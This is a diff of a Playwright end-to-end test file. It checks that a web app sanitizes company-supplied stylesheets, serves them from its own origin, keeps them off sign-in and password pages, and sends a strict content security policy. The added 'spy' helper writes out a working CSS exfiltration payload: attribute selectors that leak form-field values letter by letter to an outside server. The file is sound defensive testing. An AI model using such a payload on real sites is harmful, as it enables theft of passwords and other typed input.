@@ -1,5 +1,7 @@
 import type { Locator, Page } from 'playwright-core'
-import { expect } from 'vitest'
+import { expect, inject } from 'vitest'
+import { styleHost } from '#tools/services/style-host.ts'
+import { enter, ownCompany, ownPerson, OWN_PASSWORD } from './harness/own-company.ts'
 import { emailOf, fillSignIn } from './harness/people.ts'
 import { inside, signIn } from './harness/signed-in.ts'
 import { address, password, story } from './harness/story.ts'
@@ -127,20 +129,84 @@ story(
 )
 
 story('lets no stylesheet of others hide the way back', async ({ visitor }) => {
-  const { page, context } = await visitor({ colorScheme: 'light' })
-  await context.route('https://style.example.org/broken.css*', (route) =>
-    route.fulfill({ contentType: 'text/css', body: 'body { display: none !important }' }),
-  )
-  await makeCompany(page, 'West Wind', 'west-wind')
-  await page.goto(address('west-wind', '/login'))
-  await fillSignIn(page, emailOf('root'), password)
-  await inside(page)
-  await page.goto(address('west-wind', '/dashboard/company/themes'))
-  await page.getByText(text('company.look.own'), { exact: true }).click()
-  await page.getByLabel(text('company.own.light')).fill('https://style.example.org/broken.css')
-  await button(page, 'company.own.save').click()
-  await page.getByText(text('company.trial.title')).waitFor()
-  await button(page, 'company.trial.restore').click()
-  await page.getByText(text('company.trial.restored')).waitFor()
-  await page.getByText(text('company.look.now', { look: text('company.look.built_in') })).waitFor()
+  const host = await styleHost(inject('certificate'))
+  host.files.set('/broken.css', 'body { display: none !important }')
+  try {
+    const { page } = await visitor({ colorScheme: 'light' })
+    await makeCompany(page, 'West Wind', 'west-wind')
+    await page.goto(address('west-wind', '/login'))
+    await fillSignIn(page, emailOf('root'), password)
+    await inside(page)
+    await page.goto(address('west-wind', '/dashboard/company/themes'))
+    await page.getByText(text('company.look.own'), { exact: true }).click()
+    await page.getByLabel(text('company.own.light')).fill(host.address('/broken.css'))
+    await button(page, 'company.own.save').click()
+    await page.getByText(text('company.trial.title')).waitFor()
+    await button(page, 'company.trial.restore').click()
+    await page.getByText(text('company.trial.restored')).waitFor()
+    await page.getByText(text('company.look.now', { look: text('company.look.built_in') })).waitFor()
+  } finally {
+    await host.stop()
+  }
 })
+
+/** Reads a field letter by letter and tells another server, as a stylesheet can where it is let. */
+const spy = (host: string) => `@import url(${host}/more.css);
+${[...'abcdefghijklmnopqrstuvwxyz'].map((letter) => `input[value*='${letter}'] { background: url(${host}/${letter}) }`).join('\n')}
+html:root[data-mantine-color-scheme] { --cairn-accent: #0b5394 }`
+
+/** All that a selector could read of the page's fields. */
+const attributes = (page: Page) =>
+  page
+    .locator('input')
+    .evaluateAll((fields) =>
+      fields.map((field) => [...field.attributes].map((a) => a.value).join(' ')).join(' '),
+    )
+
+story(
+  'gives a stylesheet of a company’s own nothing to read: cleaned, served here, and not worn where one signs in [S3.4] [S4.4]',
+  async ({ visitor }) => {
+    const host = await styleHost(inject('certificate'))
+    host.files.set('/spy.css', spy(host.address('')))
+    try {
+      const company = await ownCompany('Spying Wind')
+      const admin = await ownPerson(company, 'admin')
+      const { page } = await visitor({ colorScheme: 'light' })
+      await enter(page, admin, '/dashboard/company/themes')
+      await page.getByText(text('company.look.own'), { exact: true }).click()
+      await page.getByLabel(text('company.own.light')).fill(host.address('/spy.css'))
+      await button(page, 'company.own.save').click()
+      await button(page, 'company.trial.keep').click()
+      await page.getByText('27 parts were left out').waitFor()
+      const fetched = host.asked.length
+      expect(await accent(page)).toBe('#0b5394')
+      const worn = page.locator('link[data-theme="light"]')
+      expect(await worn.getAttribute('href')).toMatch(
+        /localhost:\d+\/themes\/[0-9a-f-]{36}\/own-[0-9a-f]{32}\.css\?t=\d+$/,
+      )
+
+      // Where a password is asked for it is gone, and what is typed is in no attribute.
+      await page.goto(address(company, '/dashboard/me/password'))
+      await page.locator('input[type="password"]').first().fill('hidden-brook-77')
+      expect(await worn.count()).toBe(0)
+      expect(await attributes(page)).not.toContain('hidden')
+
+      const { page: other } = await visitor({ colorScheme: 'light' })
+      const answer = await other.goto(address(company, '/login'))
+      const policy = answer?.headers()['content-security-policy'] ?? ''
+      expect(policy).toMatch(/style-src 'self' 'nonce-[^']+';/)
+      expect(policy).toMatch(/font-src 'self';/)
+      await other.locator('input[type="email"]').fill(admin.email)
+      await other.locator('input[type="password"]').fill(OWN_PASSWORD)
+      expect(await attributes(other)).not.toContain('three')
+      expect(await other.locator('link[data-theme]').count()).toBe(0)
+      await other.locator('form button[type="submit"]').click()
+      await inside(other)
+      await expect.poll(() => accent(other)).toBe('#0b5394')
+      // No browser ever called the company's own server.
+      expect(host.asked.slice(fetched)).toEqual([])
+    } finally {
+      await host.stop()
+    }
+  },
+)
